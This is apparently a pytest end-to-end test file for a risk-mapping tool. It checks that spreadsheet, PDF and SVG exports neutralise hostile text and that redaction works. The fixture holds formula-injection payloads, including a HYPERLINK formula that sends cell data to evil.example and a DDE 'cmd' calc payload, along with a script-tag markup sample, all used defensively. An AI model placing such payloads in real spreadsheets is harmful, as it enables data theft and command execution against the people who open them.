"""Exports of hostile text: no formula in Excel, no markup in PDF or SVG, redaction holds,
and a failed export leaves nothing behind and never touches the project."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest

from riskmap import storage
from riskmap.model import Participant
from tests.e2e.conftest import EXAMPLES
from tests.e2e.test_cli import assert_one_line_error

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "-2+3", "=1+1"]
MARKUP = '<b>not bold</b> <script>alert(1)</script> & <font size="40">big</font>'
SECRETS = ("Inspector Kwame Mensah", "Head of Manifest Ama Boateng", "informant number 7",
           "Director Jean Dupont", "Workshop member Sofia Reyes")
needs_poppler = pytest.mark.skipif(shutil.which("pdftotext") is None,
                                   reason="poppler-utils (pdftotext) not installed")


@pytest.fixture
def hostile(tmp_path):
    """The seaport example with formulas and markup typed into its text fields, and names."""
    project = storage.load(EXAMPLES / "seaport-import.riskmap")
    risk, measure, stage = project.risks[0], project.measures[0], project.all_stages()[0]
    risk.statement = f"{FORMULAS[0]} {MARKUP}"
    risk.owner, measure.title, stage.name = FORMULAS[1], FORMULAS[2], FORMULAS[3]
    project.metadata.office = FORMULAS[4]
    project.risks[1].actors = [SECRETS[0]]
    project.risks[1].owner = SECRETS[1]
    project.risks[1].evidence = SECRETS[2]
    project.measures[1].owner = SECRETS[3]
    project.metadata.participants.append(Participant(code="P-99", name=SECRETS[4]))
    path = tmp_path / "hostile.riskmap"
    storage.save(project, path)
    return path


def workbook_text(path) -> tuple[list[str], str]:
    """(formulas found in any sheet, all cell text) of a workbook."""
    with zipfile.ZipFile(path) as archive:
        formulas = [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                    for f in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    return formulas, "\n".join(str(c.value) for c in cells)


def pdf_text(path) -> str:
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], check=True,
                         capture_output=True).stdout.decode("utf-8")
    return re.sub(r"\s+", " ", out)


def svg_text(folder) -> str:
    texts = []
    for svg in sorted(folder.glob("*.svg")):
        tree = ElementTree.parse(svg)  # well-formed, whatever the text held
        tags = {element.tag.rsplit("}", 1)[-1] for element in tree.iter()}
        assert not tags & {"script", "foreignObject", "font", "b"}, tags
        texts.append(" ".join(tree.getroot().itertext()))
    return re.sub(r"\s+", " ", " ".join(texts))


def test_formulas_stay_text_in_the_workbook(cli, hostile, tmp_path):
    out = tmp_path / "register.xlsx"
    assert cli("export", hostile, "--xlsx", out).code == 0
    formulas, text = workbook_text(out)
    assert formulas == []
    for formula in FORMULAS:
        assert formula in text


@needs_poppler
def test_markup_prints_literally_in_the_report_and_drawings(cli, hostile, tmp_path):
    pdf, svg = tmp_path / "report.pdf", tmp_path / "drawings"
    result = cli("export", hostile, "--pdf", pdf, "--svg", svg)
    assert result.code == 0, result.err
    assert MARKUP in pdf_text(pdf)
    svg_text(svg)


@needs_poppler
def test_redacted_exports_name_nobody_and_leave_the_project_alone(cli, hostile, tmp_path):
    before = hostile.read_bytes()
    xlsx, pdf, svg = tmp_path / "r.xlsx", tmp_path / "r.pdf", tmp_path / "svg"
    result = cli("export", hostile, "--redact", "--xlsx", xlsx, "--pdf", pdf, "--svg", svg)
    assert result.code == 0, result.err
    everything = workbook_text(xlsx)[1] + pdf_text(pdf) + svg_text(svg)
    for secret in SECRETS:
        assert secret not in everything
    assert "REDACTED" in pdf_text(pdf)
    assert hostile.read_bytes() == before


def test_a_failed_export_leaves_no_file_and_the_project_untouched(cli, hostile, tmp_path):
    before = hostile.read_bytes()
    old = tmp_path / "old.xlsx"
    old.write_bytes(b"the manager's copy")
    missing = tmp_path / "no-such-folder" / "report.pdf"
    result = cli("export", hostile, "--pdf", missing)
    assert_one_line_error(result, missing)
    assert hostile.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hostile.riskmap", "old.xlsx"]
    unwritable = tmp_path / "locked"
    unwritable.mkdir()
    unwritable.chmod(0o500)
    try:
        result = cli("export", hostile, "--xlsx", unwritable / "register.xlsx")
        if result.code != 0:  # root may write anyway
            assert_one_line_error(result, unwritable / "register.xlsx")
            assert list(unwritable.iterdir()) == []
    finally:
        unwritable.chmod(0o700)
    assert old.read_bytes() == b"the manager's copy"
